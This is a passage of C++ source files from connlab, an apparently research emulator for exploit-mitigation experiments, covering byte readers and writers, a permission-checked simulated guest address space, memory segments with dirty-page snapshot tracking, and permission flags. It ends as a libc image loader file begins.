#include <cstdint>
#include <span>
#include <string>
#include <string_view>
#include <vector>

#include "src/util/status.hpp"

namespace connlab::util {

using Bytes = std::vector<std::uint8_t>;
using ByteSpan = std::span<const std::uint8_t>;

/// Builds Bytes from a string literal's characters (no trailing NUL).
Bytes BytesOf(std::string_view text);

/// Renders bytes as lowercase hex, e.g. "dead beef" -> "646561642062656566".
std::string ToHex(ByteSpan data);

/// Bounds-checked big-endian/little-endian reader over a non-owned span.
class ByteReader {
 public:
  explicit ByteReader(ByteSpan data) noexcept : data_(data) {}

  [[nodiscard]] std::size_t offset() const noexcept { return offset_; }
  [[nodiscard]] std::size_t remaining() const noexcept {
    return data_.size() - offset_;
  }
  [[nodiscard]] bool empty() const noexcept { return remaining() == 0; }

  /// Moves the cursor to an absolute offset (used for DNS compression jumps).
  Status Seek(std::size_t offset);

  Result<std::uint8_t> ReadU8();
  Result<std::uint16_t> ReadU16BE();
  Result<std::uint32_t> ReadU32BE();
  Result<std::uint16_t> ReadU16LE();
  Result<std::uint32_t> ReadU32LE();
  Result<Bytes> ReadBytes(std::size_t count);
  Status Skip(std::size_t count);

  /// Peek without consuming.
  Result<std::uint8_t> PeekU8() const;

 private:
  ByteSpan data_;
  std::size_t offset_ = 0;
};

/// Append-only writer producing Bytes.
class ByteWriter {
 public:
  ByteWriter() = default;

  void WriteU8(std::uint8_t v);
  void WriteU16BE(std::uint16_t v);
  void WriteU32BE(std::uint32_t v);
  void WriteU16LE(std::uint16_t v);
  void WriteU32LE(std::uint32_t v);
  void WriteBytes(ByteSpan data);
  void WriteString(std::string_view text);  // raw chars, no NUL
  /// Overwrites 2 bytes at an earlier offset (e.g. patching DNS counts).
  Status PatchU16BE(std::size_t offset, std::uint16_t v);

  [[nodiscard]] std::size_t size() const noexcept { return out_.size(); }
  [[nodiscard]] const Bytes& bytes() const noexcept { return out_; }
  [[nodiscard]] Bytes Take() && { return std::move(out_); }

 private:
  Bytes out_;
};

}  // namespace connlab::util
