#include "src/util/bytes.hpp"

namespace connlab::util {

Bytes BytesOf(std::string_view text) {
  return Bytes(text.begin(), text.end());
}

std::string ToHex(ByteSpan data) {
  static constexpr char kDigits[] = "0123456789abcdef";
  std::string out;
  out.reserve(data.size() * 2);
  for (std::uint8_t b : data) {
    out.push_back(kDigits[b >> 4]);
    out.push_back(kDigits[b & 0xF]);
  }
  return out;
}

Status ByteReader::Seek(std::size_t offset) {
  if (offset > data_.size()) {
    return OutOfRange("seek past end of buffer");
  }
  offset_ = offset;
  return OkStatus();
}

Result<std::uint8_t> ByteReader::ReadU8() {
  if (remaining() < 1) return Malformed("truncated: need 1 byte");
  return data_[offset_++];
}

Result<std::uint8_t> ByteReader::PeekU8() const {
  if (remaining() < 1) return Malformed("truncated: need 1 byte");
  return data_[offset_];
}

Result<std::uint16_t> ByteReader::ReadU16BE() {
  if (remaining() < 2) return Malformed("truncated: need 2 bytes");
  std::uint16_t v = static_cast<std::uint16_t>(
      (static_cast<std::uint16_t>(data_[offset_]) << 8) | data_[offset_ + 1]);
  offset_ += 2;
  return v;
}

Result<std::uint32_t> ByteReader::ReadU32BE() {
  if (remaining() < 4) return Malformed("truncated: need 4 bytes");
  std::uint32_t v = (static_cast<std::uint32_t>(data_[offset_]) << 24) |
                    (static_cast<std::uint32_t>(data_[offset_ + 1]) << 16) |
                    (static_cast<std::uint32_t>(data_[offset_ + 2]) << 8) |
                    static_cast<std::uint32_t>(data_[offset_ + 3]);
  offset_ += 4;
  return v;
}

Result<std::uint16_t> ByteReader::ReadU16LE() {
  if (remaining() < 2) return Malformed("truncated: need 2 bytes");
  std::uint16_t v = static_cast<std::uint16_t>(
      data_[offset_] | (static_cast<std::uint16_t>(data_[offset_ + 1]) << 8));
  offset_ += 2;
  return v;
}

Result<std::uint32_t> ByteReader::ReadU32LE() {
  if (remaining() < 4) return Malformed("truncated: need 4 bytes");
  std::uint32_t v = static_cast<std::uint32_t>(data_[offset_]) |
                    (static_cast<std::uint32_t>(data_[offset_ + 1]) << 8) |
                    (static_cast<std::uint32_t>(data_[offset_ + 2]) << 16) |
                    (static_cast<std::uint32_t>(data_[offset_ + 3]) << 24);
  offset_ += 4;
  return v;
}

Result<Bytes> ByteReader::ReadBytes(std::size_t count) {
  if (remaining() < count) return Malformed("truncated: need more bytes");
  Bytes out(data_.begin() + static_cast<std::ptrdiff_t>(offset_),
            data_.begin() + static_cast<std::ptrdiff_t>(offset_ + count));
  offset_ += count;
  return out;
}

Status ByteReader::Skip(std::size_t count) {
  if (remaining() < count) return Malformed("truncated: cannot skip");
  offset_ += count;
  return OkStatus();
}

void ByteWriter::WriteU8(std::uint8_t v) { out_.push_back(v); }

void ByteWriter::WriteU16BE(std::uint16_t v) {
  out_.push_back(static_cast<std::uint8_t>(v >> 8));
  out_.push_back(static_cast<std::uint8_t>(v & 0xFF));
}

void ByteWriter::WriteU32BE(std::uint32_t v) {
  out_.push_back(static_cast<std::uint8_t>(v >> 24));
  out_.push_back(static_cast<std::uint8_t>((v >> 16) & 0xFF));
  out_.push_back(static_cast<std::uint8_t>((v >> 8) & 0xFF));
  out_.push_back(static_cast<std::uint8_t>(v & 0xFF));
}

void ByteWriter::WriteU16LE(std::uint16_t v) {
  out_.push_back(static_cast<std::uint8_t>(v & 0xFF));
  out_.push_back(static_cast<std::uint8_t>(v >> 8));
}

void ByteWriter::WriteU32LE(std::uint32_t v) {
  out_.push_back(static_cast<std::uint8_t>(v & 0xFF));
  out_.push_back(static_cast<std::uint8_t>((v >> 8) & 0xFF));
  out_.push_back(static_cast<std::uint8_t>((v >> 16) & 0xFF));
  out_.push_back(static_cast<std::uint8_t>(v >> 24));
}

void ByteWriter::WriteBytes(ByteSpan data) {
  out_.insert(out_.end(), data.begin(), data.end());
}

void ByteWriter::WriteString(std::string_view text) {
  out_.insert(out_.end(), text.begin(), text.end());
}

Status ByteWriter::PatchU16BE(std::size_t offset, std::uint16_t v) {
  if (offset + 2 > out_.size()) return OutOfRange("patch past end of buffer");
  out_[offset] = static_cast<std::uint8_t>(v >> 8);
  out_[offset + 1] = static_cast<std::uint8_t>(v & 0xFF);
  return OkStatus();
}

}  // namespace connlab::util
