// The 32-bit guest address space: an ordered set of non-overlapping Segments
// with permission-checked accessors. Every guest memory touch in connlab —
// the vulnerable memcpy, instruction fetch, gadget pops — goes through here,
// so a bad pointer produces a Fault record exactly where a real process
// would take SIGSEGV.
#pragma once

#include <cstdint>
#include <memory>
#include <optional>
#include <string>
#include <vector>

#include "src/mem/segment.hpp"
#include "src/util/bytes.hpp"
#include "src/util/status.hpp"

namespace connlab::mem {

/// What a failed access looked like; mirrors siginfo for SIGSEGV.
enum class AccessKind : std::uint8_t { kRead, kWrite, kFetch };

std::string AccessKindName(AccessKind kind);

struct FaultInfo {
  AccessKind kind = AccessKind::kRead;
  GuestAddr addr = 0;
  std::string detail;  // "unmapped", "no write permission on .text", ...
};

class AddressSpace {
 public:
  AddressSpace() = default;

  // Movable, not copyable: Segments are heavy and identity matters.
  AddressSpace(AddressSpace&&) noexcept = default;
  AddressSpace& operator=(AddressSpace&&) noexcept = default;
  AddressSpace(const AddressSpace&) = delete;
  AddressSpace& operator=(const AddressSpace&) = delete;

  /// Maps a new segment. Fails on overlap with an existing one.
  util::Status Map(std::string name, GuestAddr base, std::uint32_t size, Perm perms);

  /// Changes a whole segment's permissions (mprotect analogue).
  util::Status Protect(std::string_view name, Perm perms);

  [[nodiscard]] const Segment* FindSegment(GuestAddr addr) const noexcept;
  [[nodiscard]] const Segment* FindSegmentByName(std::string_view name) const noexcept;
  Segment* FindSegmentByNameMutable(std::string_view name) noexcept;

  // --- Checked guest accessors -------------------------------------------
  // Reads require kRead, writes kWrite, fetches kExec (the W^X teeth).
  // Multi-byte accessors use guest (little-endian) byte order and may NOT
  // straddle segments (real mappings are page-padded; ours are too).

  util::Result<std::uint8_t> ReadU8(GuestAddr addr) const;
  util::Result<std::uint32_t> ReadU32(GuestAddr addr) const;
  util::Result<util::Bytes> ReadBytes(GuestAddr addr, std::uint32_t len) const;
  /// Reads until NUL or `max_len`; error if it runs off the mapping.
  util::Result<std::string> ReadCString(GuestAddr addr, std::uint32_t max_len = 4096) const;

  util::Status WriteU8(GuestAddr addr, std::uint8_t value);
  util::Status WriteU32(GuestAddr addr, std::uint32_t value);
  util::Status WriteBytes(GuestAddr addr, util::ByteSpan data);

  /// Fetch check used by the CPU: validates X permission at `addr` for `len`
  /// bytes and returns them. A stack address under W^X fails here.
  util::Result<util::Bytes> Fetch(GuestAddr addr, std::uint32_t len) const;

  /// Zero-allocation fetch: same permission semantics as Fetch, but returns
  /// the backing segment instead of copying bytes out. The caller reads the
  /// window via seg->SpanAt(addr, len) and tags cached decodes with
  /// seg->generation(). The pointer stays valid for the segment's lifetime
  /// (segments are never unmapped); the *bytes* it exposes are only current
  /// while the generation is unchanged.
  util::Result<const Segment*> FetchSegment(GuestAddr addr, std::uint32_t len) const;

  /// Unchecked variants for the loader/debugger (ptrace analogue): they see
  /// memory regardless of permissions, but still fail on unmapped addresses.
  util::Result<util::Bytes> DebugRead(GuestAddr addr, std::uint32_t len) const;
  util::Status DebugWrite(GuestAddr addr, util::ByteSpan data);

  /// The last permission/unmapped fault, for diagnostics. Cleared by
  /// ClearFault(). The CPU copies this into its exit record.
  [[nodiscard]] const std::optional<FaultInfo>& last_fault() const noexcept {
    return last_fault_;
  }
  void ClearFault() noexcept { last_fault_.reset(); }

  [[nodiscard]] const std::vector<std::unique_ptr<Segment>>& segments() const noexcept {
    return segments_;
  }

  /// /proc/<pid>/maps analogue for examples and the debugger.
  [[nodiscard]] std::string MapsString() const;

 private:
  const Segment* CheckAccess(GuestAddr addr, std::uint32_t len, AccessKind kind) const;

  std::vector<std::unique_ptr<Segment>> segments_;  // sorted by base
  mutable std::optional<FaultInfo> last_fault_;
  /// One-entry lookup cache: guest accesses are strongly clustered (the
  /// stack during ROP replay, .text during straight-line execution), so the
  /// last segment hit short-circuits the binary search most of the time.
  /// Segment pointers are stable (unique_ptr elements, no unmap), so the
  /// cache never dangles; permissions are re-checked on every access.
  mutable const Segment* hot_seg_ = nullptr;
};

}  // namespace connlab::mem
