#include "src/mem/address_space.hpp"

#include <algorithm>
#include <cstdio>

namespace connlab::mem {

namespace {
std::string Hex(GuestAddr a) {
  char buf[16];
  std::snprintf(buf, sizeof(buf), "0x%08x", a);
  return buf;
}
}  // namespace

std::string AccessKindName(AccessKind kind) {
  switch (kind) {
    case AccessKind::kRead: return "read";
    case AccessKind::kWrite: return "write";
    case AccessKind::kFetch: return "fetch";
  }
  return "?";
}

util::Status AddressSpace::Map(std::string name, GuestAddr base,
                               std::uint32_t size, Perm perms) {
  if (size == 0) return util::InvalidArgument("cannot map empty segment");
  const std::uint64_t end = static_cast<std::uint64_t>(base) + size;
  if (end > 0x100000000ULL) {
    return util::OutOfRange("segment exceeds 32-bit address space");
  }
  for (const auto& seg : segments_) {
    const bool disjoint = end <= seg->base() || base >= seg->end();
    if (!disjoint) {
      return util::AlreadyExists("segment '" + name + "' overlaps '" +
                                 seg->name() + "'");
    }
  }
  auto seg = std::make_unique<Segment>(std::move(name), base, size, perms);
  auto pos = std::lower_bound(
      segments_.begin(), segments_.end(), base,
      [](const std::unique_ptr<Segment>& s, GuestAddr b) { return s->base() < b; });
  segments_.insert(pos, std::move(seg));
  return util::OkStatus();
}

util::Status AddressSpace::Protect(std::string_view name, Perm perms) {
  Segment* seg = FindSegmentByNameMutable(name);
  if (seg == nullptr) {
    return util::NotFound("no segment named '" + std::string(name) + "'");
  }
  seg->set_perms(perms);
  // An mprotect invalidates cached decodes (X may have been revoked).
  seg->BumpGeneration();
  return util::OkStatus();
}

const Segment* AddressSpace::FindSegment(GuestAddr addr) const noexcept {
  if (hot_seg_ != nullptr && hot_seg_->Contains(addr)) return hot_seg_;
  // segments_ is sorted by base; binary search for the candidate.
  auto pos = std::upper_bound(
      segments_.begin(), segments_.end(), addr,
      [](GuestAddr a, const std::unique_ptr<Segment>& s) { return a < s->base(); });
  if (pos == segments_.begin()) return nullptr;
  const Segment* seg = std::prev(pos)->get();
  if (!seg->Contains(addr)) return nullptr;
  hot_seg_ = seg;
  return seg;
}

const Segment* AddressSpace::FindSegmentByName(std::string_view name) const noexcept {
  for (const auto& seg : segments_) {
    if (seg->name() == name) return seg.get();
  }
  return nullptr;
}

Segment* AddressSpace::FindSegmentByNameMutable(std::string_view name) noexcept {
  for (auto& seg : segments_) {
    if (seg->name() == name) return seg.get();
  }
  return nullptr;
}

const Segment* AddressSpace::CheckAccess(GuestAddr addr, std::uint32_t len,
                                         AccessKind kind) const {
  const Segment* seg = FindSegment(addr);
  if (seg == nullptr || !seg->ContainsRange(addr, len)) {
    last_fault_ = FaultInfo{kind, addr, "unmapped address " + Hex(addr)};
    return nullptr;
  }
  const Perm need = kind == AccessKind::kRead    ? Perm::kRead
                    : kind == AccessKind::kWrite ? Perm::kWrite
                                                 : Perm::kExec;
  if (!Has(seg->perms(), need)) {
    last_fault_ = FaultInfo{kind, addr,
                            "no " + AccessKindName(kind) + " permission on " +
                                seg->name() + " (" + PermString(seg->perms()) +
                                ") at " + Hex(addr)};
    return nullptr;
  }
  return seg;
}

util::Result<std::uint8_t> AddressSpace::ReadU8(GuestAddr addr) const {
  const Segment* seg = CheckAccess(addr, 1, AccessKind::kRead);
  if (seg == nullptr) return util::PermissionDenied(last_fault_->detail);
  return seg->At(addr);
}

util::Result<std::uint32_t> AddressSpace::ReadU32(GuestAddr addr) const {
  const Segment* seg = CheckAccess(addr, 4, AccessKind::kRead);
  if (seg == nullptr) return util::PermissionDenied(last_fault_->detail);
  const util::ByteSpan w = seg->SpanAt(addr, 4);
  return static_cast<std::uint32_t>(w[0]) |
         (static_cast<std::uint32_t>(w[1]) << 8) |
         (static_cast<std::uint32_t>(w[2]) << 16) |
         (static_cast<std::uint32_t>(w[3]) << 24);
}

util::Result<util::Bytes> AddressSpace::ReadBytes(GuestAddr addr,
                                                  std::uint32_t len) const {
  const Segment* seg = CheckAccess(addr, len, AccessKind::kRead);
  if (seg == nullptr) return util::PermissionDenied(last_fault_->detail);
  auto span = seg->SpanAt(addr, len);
  return util::Bytes(span.begin(), span.end());
}

util::Result<std::string> AddressSpace::ReadCString(GuestAddr addr,
                                                    std::uint32_t max_len) const {
  std::string out;
  for (std::uint32_t i = 0; i < max_len; ++i) {
    auto byte = ReadU8(addr + i);
    if (!byte.ok()) return byte.status();
    if (byte.value() == 0) return out;
    out.push_back(static_cast<char>(byte.value()));
  }
  return util::OutOfRange("unterminated string at " + Hex(addr));
}

util::Status AddressSpace::WriteU8(GuestAddr addr, std::uint8_t value) {
  const Segment* seg = CheckAccess(addr, 1, AccessKind::kWrite);
  if (seg == nullptr) return util::PermissionDenied(last_fault_->detail);
  const_cast<Segment*>(seg)->Set(addr, value);
  return util::OkStatus();
}

util::Status AddressSpace::WriteU32(GuestAddr addr, std::uint32_t value) {
  const Segment* seg = CheckAccess(addr, 4, AccessKind::kWrite);
  if (seg == nullptr) return util::PermissionDenied(last_fault_->detail);
  const std::uint8_t bytes[4] = {
      static_cast<std::uint8_t>(value & 0xFF),
      static_cast<std::uint8_t>((value >> 8) & 0xFF),
      static_cast<std::uint8_t>((value >> 16) & 0xFF),
      static_cast<std::uint8_t>((value >> 24) & 0xFF)};
  const_cast<Segment*>(seg)->SetBytes(addr, util::ByteSpan(bytes, 4));
  return util::OkStatus();
}

util::Status AddressSpace::WriteBytes(GuestAddr addr, util::ByteSpan data) {
  const auto len = static_cast<std::uint32_t>(data.size());
  const Segment* seg = CheckAccess(addr, len, AccessKind::kWrite);
  if (seg == nullptr) return util::PermissionDenied(last_fault_->detail);
  const_cast<Segment*>(seg)->SetBytes(addr, data);
  return util::OkStatus();
}

util::Result<util::Bytes> AddressSpace::Fetch(GuestAddr addr,
                                              std::uint32_t len) const {
  const Segment* seg = CheckAccess(addr, len, AccessKind::kFetch);
  if (seg == nullptr) return util::PermissionDenied(last_fault_->detail);
  auto span = seg->SpanAt(addr, len);
  return util::Bytes(span.begin(), span.end());
}

util::Result<const Segment*> AddressSpace::FetchSegment(
    GuestAddr addr, std::uint32_t len) const {
  const Segment* seg = CheckAccess(addr, len, AccessKind::kFetch);
  if (seg == nullptr) return util::PermissionDenied(last_fault_->detail);
  return seg;
}

util::Result<util::Bytes> AddressSpace::DebugRead(GuestAddr addr,
                                                  std::uint32_t len) const {
  const Segment* seg = FindSegment(addr);
  if (seg == nullptr || !seg->ContainsRange(addr, len)) {
    return util::OutOfRange("debug read of unmapped range at " + Hex(addr));
  }
  auto span = seg->SpanAt(addr, len);
  return util::Bytes(span.begin(), span.end());
}

util::Status AddressSpace::DebugWrite(GuestAddr addr, util::ByteSpan data) {
  const auto len = static_cast<std::uint32_t>(data.size());
  const Segment* seg = FindSegment(addr);
  if (seg == nullptr || !seg->ContainsRange(addr, len)) {
    return util::OutOfRange("debug write of unmapped range at " + Hex(addr));
  }
  const_cast<Segment*>(seg)->SetBytes(addr, data);
  return util::OkStatus();
}

std::string AddressSpace::MapsString() const {
  std::string out;
  char line[160];
  for (const auto& seg : segments_) {
    std::snprintf(line, sizeof(line), "%08x-%08x %s %s\n", seg->base(),
                  seg->end(), PermString(seg->perms()).c_str(),
                  seg->name().c_str());
    out += line;
  }
  return out;
}

}  // namespace connlab::mem
