// A contiguous mapped region of guest memory: [base, base+size) with one
// permission set and a name (".text", ".bss", "libc", "stack", ...).
//
// Each segment carries a monotonically increasing write generation: any
// mutation of its bytes (or its permissions) bumps the counter. The CPU's
// predecode cache keys cached instructions on (segment, generation), so
// self-modifying code — shellcode written onto an executable stack and then
// jumped to — is never executed from a stale decode.
//
// Piggybacked on the same write paths is page-granular dirty tracking
// (256-byte pages, one bit each): every byte mutation also sets its page's
// dirty bit. loader::TakeSnapshot resets the dirty set against a baseline
// id, and RestoreSnapshot's dirty-only mode copies back just the pages
// touched since — O(touched pages) instead of O(image) for a typical fuzz
// execution that scribbles a few stack frames of a multi-hundred-KB image.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "src/mem/perms.hpp"
#include "src/util/bytes.hpp"

namespace connlab::mem {

using GuestAddr = std::uint32_t;

class Segment {
 public:
  Segment(std::string name, GuestAddr base, std::uint32_t size, Perm perms);

  [[nodiscard]] const std::string& name() const noexcept { return name_; }
  [[nodiscard]] GuestAddr base() const noexcept { return base_; }
  [[nodiscard]] std::uint32_t size() const noexcept {
    return static_cast<std::uint32_t>(data_.size());
  }
  [[nodiscard]] GuestAddr end() const noexcept { return base_ + size(); }
  [[nodiscard]] Perm perms() const noexcept { return perms_; }
  void set_perms(Perm perms) noexcept { perms_ = perms; }

  [[nodiscard]] bool Contains(GuestAddr addr) const noexcept {
    return addr >= base_ && addr < end();
  }
  /// True iff [addr, addr+len) fits wholly inside the segment.
  [[nodiscard]] bool ContainsRange(GuestAddr addr, std::uint32_t len) const noexcept;

  // Raw accessors. Callers must have validated the range (the AddressSpace
  // front door does); these index directly.
  [[nodiscard]] std::uint8_t At(GuestAddr addr) const noexcept {
    return data_[addr - base_];
  }
  void Set(GuestAddr addr, std::uint8_t value) noexcept {
    const std::uint32_t off = addr - base_;
    data_[off] = value;
    ++generation_;
    dirty_[off >> (kDirtyPageShift + 6)] |= 1ull << ((off >> kDirtyPageShift) & 63u);
  }
  /// Bulk write without per-byte generation bumps (one bump per call).
  void SetBytes(GuestAddr addr, util::ByteSpan bytes) noexcept;
  [[nodiscard]] util::ByteSpan SpanAt(GuestAddr addr, std::uint32_t len) const noexcept;

  [[nodiscard]] const util::Bytes& data() const noexcept { return data_; }
  /// Mutable backing bytes. Handing out the reference counts as a write:
  /// callers (loader image builders, snapshot restore) may scribble freely,
  /// so the generation is bumped — and every page marked dirty —
  /// pessimistically here.
  util::Bytes& mutable_data() noexcept {
    ++generation_;
    MarkAllDirty();
    return data_;
  }

  /// Write generation: bumped on every byte/permission mutation. Cached
  /// decodes tagged with an older generation are stale.
  [[nodiscard]] std::uint64_t generation() const noexcept { return generation_; }
  void BumpGeneration() noexcept { ++generation_; }

  // --- Dirty-page tracking -------------------------------------------------
  static constexpr std::uint32_t kDirtyPageShift = 8;
  static constexpr std::uint32_t kDirtyPageSize = 1u << kDirtyPageShift;  // 256

  /// Clears the dirty set and stamps whose snapshot it is measured against.
  /// A restore may only trust the dirty bits when its snapshot's id matches
  /// the current baseline; anything else (an older snapshot, a segment that
  /// never had a snapshot taken) must fall back to a full copy.
  void ResetDirty(std::uint64_t baseline_id) noexcept;
  [[nodiscard]] std::uint64_t dirty_baseline() const noexcept {
    return dirty_baseline_;
  }
  [[nodiscard]] bool HasDirtyPages() const noexcept;
  [[nodiscard]] std::uint32_t CountDirtyPages() const noexcept;
  void MarkAllDirty() noexcept;

  /// Copies every dirty page's bytes back from `reference` (a same-size
  /// image of this segment), clears the dirty set, and bumps the generation
  /// once iff anything was copied — an untouched segment keeps its
  /// generation, so cached decodes and shared-plan bindings stay warm
  /// across the restore. Returns the number of pages copied.
  std::uint32_t RestoreDirtyPagesFrom(util::ByteSpan reference) noexcept;

 private:
  std::string name_;
  GuestAddr base_;
  Perm perms_;
  util::Bytes data_;
  std::uint64_t generation_ = 0;
  std::vector<std::uint64_t> dirty_;  // one bit per 256-byte page
  std::uint64_t dirty_baseline_ = 0;  // 0 = no snapshot baseline yet
};

}  // namespace connlab::mem
