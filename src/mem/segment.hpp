// A contiguous mapped region of guest memory: [base, base+size) with one
// permission set and a name (".text", ".bss", "libc", "stack", ...).
//
// Each segment carries a monotonically increasing write generation: any
// mutation of its bytes (or its permissions) bumps the counter. The CPU's
// predecode cache keys cached instructions on (segment, generation), so
// self-modifying code — shellcode written onto an executable stack and then
// jumped to — is never executed from a stale decode.
#pragma once

#include <cstdint>
#include <string>
#include <vector>

#include "src/mem/perms.hpp"
#include "src/util/bytes.hpp"

namespace connlab::mem {

using GuestAddr = std::uint32_t;

class Segment {
 public:
  Segment(std::string name, GuestAddr base, std::uint32_t size, Perm perms);

  [[nodiscard]] const std::string& name() const noexcept { return name_; }
  [[nodiscard]] GuestAddr base() const noexcept { return base_; }
  [[nodiscard]] std::uint32_t size() const noexcept {
    return static_cast<std::uint32_t>(data_.size());
  }
  [[nodiscard]] GuestAddr end() const noexcept { return base_ + size(); }
  [[nodiscard]] Perm perms() const noexcept { return perms_; }
  void set_perms(Perm perms) noexcept { perms_ = perms; }

  [[nodiscard]] bool Contains(GuestAddr addr) const noexcept {
    return addr >= base_ && addr < end();
  }
  /// True iff [addr, addr+len) fits wholly inside the segment.
  [[nodiscard]] bool ContainsRange(GuestAddr addr, std::uint32_t len) const noexcept;

  // Raw accessors. Callers must have validated the range (the AddressSpace
  // front door does); these index directly.
  [[nodiscard]] std::uint8_t At(GuestAddr addr) const noexcept {
    return data_[addr - base_];
  }
  void Set(GuestAddr addr, std::uint8_t value) noexcept {
    data_[addr - base_] = value;
    ++generation_;
  }
  /// Bulk write without per-byte generation bumps (one bump per call).
  void SetBytes(GuestAddr addr, util::ByteSpan bytes) noexcept;
  [[nodiscard]] util::ByteSpan SpanAt(GuestAddr addr, std::uint32_t len) const noexcept;

  [[nodiscard]] const util::Bytes& data() const noexcept { return data_; }
  /// Mutable backing bytes. Handing out the reference counts as a write:
  /// callers (loader image builders, snapshot restore) may scribble freely,
  /// so the generation is bumped pessimistically here.
  util::Bytes& mutable_data() noexcept {
    ++generation_;
    return data_;
  }

  /// Write generation: bumped on every byte/permission mutation. Cached
  /// decodes tagged with an older generation are stale.
  [[nodiscard]] std::uint64_t generation() const noexcept { return generation_; }
  void BumpGeneration() noexcept { ++generation_; }

 private:
  std::string name_;
  GuestAddr base_;
  Perm perms_;
  util::Bytes data_;
  std::uint64_t generation_ = 0;
};

}  // namespace connlab::mem
