#include "src/mem/segment.hpp"

#include <algorithm>
#include <utility>

namespace connlab::mem {

Segment::Segment(std::string name, GuestAddr base, std::uint32_t size, Perm perms)
    : name_(std::move(name)), base_(base), perms_(perms), data_(size, 0) {}

bool Segment::ContainsRange(GuestAddr addr, std::uint32_t len) const noexcept {
  if (len == 0) return Contains(addr) || addr == end();
  if (addr < base_) return false;
  const std::uint64_t last = static_cast<std::uint64_t>(addr) + len;
  return last <= static_cast<std::uint64_t>(end());
}

void Segment::SetBytes(GuestAddr addr, util::ByteSpan bytes) noexcept {
  std::copy(bytes.begin(), bytes.end(), data_.begin() + (addr - base_));
  ++generation_;
}

util::ByteSpan Segment::SpanAt(GuestAddr addr, std::uint32_t len) const noexcept {
  return util::ByteSpan(data_.data() + (addr - base_), len);
}

}  // namespace connlab::mem
