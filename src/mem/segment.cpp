#include "src/mem/segment.hpp"

#include <algorithm>
#include <bit>
#include <utility>

namespace connlab::mem {

namespace {

constexpr std::uint32_t DirtyWordCount(std::uint32_t size) noexcept {
  const std::uint32_t pages =
      (size + Segment::kDirtyPageSize - 1) >> Segment::kDirtyPageShift;
  return (pages + 63u) >> 6u;
}

}  // namespace

Segment::Segment(std::string name, GuestAddr base, std::uint32_t size, Perm perms)
    : name_(std::move(name)),
      base_(base),
      perms_(perms),
      data_(size, 0),
      dirty_(DirtyWordCount(size), 0) {}

bool Segment::ContainsRange(GuestAddr addr, std::uint32_t len) const noexcept {
  if (len == 0) return Contains(addr) || addr == end();
  if (addr < base_) return false;
  const std::uint64_t last = static_cast<std::uint64_t>(addr) + len;
  return last <= static_cast<std::uint64_t>(end());
}

void Segment::SetBytes(GuestAddr addr, util::ByteSpan bytes) noexcept {
  std::copy(bytes.begin(), bytes.end(), data_.begin() + (addr - base_));
  ++generation_;
  if (bytes.empty()) return;
  const std::uint32_t first = (addr - base_) >> kDirtyPageShift;
  const std::uint32_t last =
      (addr - base_ + static_cast<std::uint32_t>(bytes.size()) - 1u) >>
      kDirtyPageShift;
  for (std::uint32_t page = first; page <= last; ++page) {
    dirty_[page >> 6u] |= 1ull << (page & 63u);
  }
}

util::ByteSpan Segment::SpanAt(GuestAddr addr, std::uint32_t len) const noexcept {
  return util::ByteSpan(data_.data() + (addr - base_), len);
}

void Segment::ResetDirty(std::uint64_t baseline_id) noexcept {
  // mutable_data() may have been used to swap in a differently-sized image;
  // keep the bitmap in step before clearing it.
  dirty_.assign(DirtyWordCount(size()), 0);
  dirty_baseline_ = baseline_id;
}

bool Segment::HasDirtyPages() const noexcept {
  for (const std::uint64_t word : dirty_) {
    if (word != 0) return true;
  }
  return false;
}

std::uint32_t Segment::CountDirtyPages() const noexcept {
  std::uint32_t count = 0;
  for (const std::uint64_t word : dirty_) {
    count += static_cast<std::uint32_t>(std::popcount(word));
  }
  return count;
}

void Segment::MarkAllDirty() noexcept {
  dirty_.assign(DirtyWordCount(size()), ~0ull);
  // Mask off the bits past the last real page so CountDirtyPages stays
  // honest.
  const std::uint32_t pages = (size() + kDirtyPageSize - 1) >> kDirtyPageShift;
  const std::uint32_t tail = pages & 63u;
  if (tail != 0 && !dirty_.empty()) dirty_.back() = (1ull << tail) - 1;
}

std::uint32_t Segment::RestoreDirtyPagesFrom(util::ByteSpan reference) noexcept {
  if (dirty_.size() != DirtyWordCount(size())) {
    // The image was resized through mutable_data(); the bitmap can no longer
    // be trusted, so pessimize to everything-dirty at the current size.
    dirty_.assign(DirtyWordCount(size()), ~0ull);
  }
  std::uint32_t copied = 0;
  const std::uint32_t page_count =
      (size() + kDirtyPageSize - 1) >> kDirtyPageShift;
  for (std::uint32_t page = 0; page < page_count; ++page) {
    if ((dirty_[page >> 6u] & (1ull << (page & 63u))) == 0) continue;
    const std::uint32_t off = page << kDirtyPageShift;
    const std::uint32_t len = std::min(kDirtyPageSize, size() - off);
    std::copy(reference.begin() + off, reference.begin() + off + len,
              data_.begin() + off);
    ++copied;
  }
  if (copied != 0) {
    ++generation_;
    std::fill(dirty_.begin(), dirty_.end(), 0);
  }
  return copied;
}

}  // namespace connlab::mem
