#include "src/mem/perms.hpp"

namespace connlab::mem {

std::string PermString(Perm p) {
  std::string out = "---";
  if (Has(p, Perm::kRead)) out[0] = 'r';
  if (Has(p, Perm::kWrite)) out[1] = 'w';
  if (Has(p, Perm::kExec)) out[2] = 'x';
  return out;
}

}  // namespace connlab::mem
