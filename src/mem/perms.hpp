// Page/segment permissions for simulated guest memory.
//
// W^X in connlab is exactly what it is on real systems: the CPU refuses to
// *fetch* from a page that lacks X, and refuses to *write* a page that lacks
// W. The exploit experiments flip these bits the same way the paper flips
// compiler/kernel options.
#pragma once

#include <cstdint>
#include <string>

namespace connlab::mem {

enum class Perm : std::uint8_t {
  kNone = 0,
  kRead = 1 << 0,
  kWrite = 1 << 1,
  kExec = 1 << 2,
};

constexpr Perm operator|(Perm a, Perm b) noexcept {
  return static_cast<Perm>(static_cast<std::uint8_t>(a) |
                           static_cast<std::uint8_t>(b));
}

constexpr Perm operator&(Perm a, Perm b) noexcept {
  return static_cast<Perm>(static_cast<std::uint8_t>(a) &
                           static_cast<std::uint8_t>(b));
}

constexpr bool Has(Perm set, Perm bit) noexcept {
  return (set & bit) != Perm::kNone;
}

inline constexpr Perm kPermR = Perm::kRead;
inline constexpr Perm kPermRW = Perm::kRead | Perm::kWrite;
inline constexpr Perm kPermRX = Perm::kRead | Perm::kExec;
inline constexpr Perm kPermRWX = Perm::kRead | Perm::kWrite | Perm::kExec;

/// "r-x", "rw-", ... in ls -l style.
std::string PermString(Perm p);

}  // namespace connlab::mem
