#include "src/loader/libc_image.hpp"

#include <string>

#include "src/util/log.hpp"

namespace connlab::loader {

namespace {

using vm::Cpu;
using vm::EventKind;
using vm::StopReason;

bool IsVX86(const Cpu& cpu) { return cpu.arch() == isa::Arch::kVX86; }

/// Reads the i-th function argument per the calling convention. On VX86 the
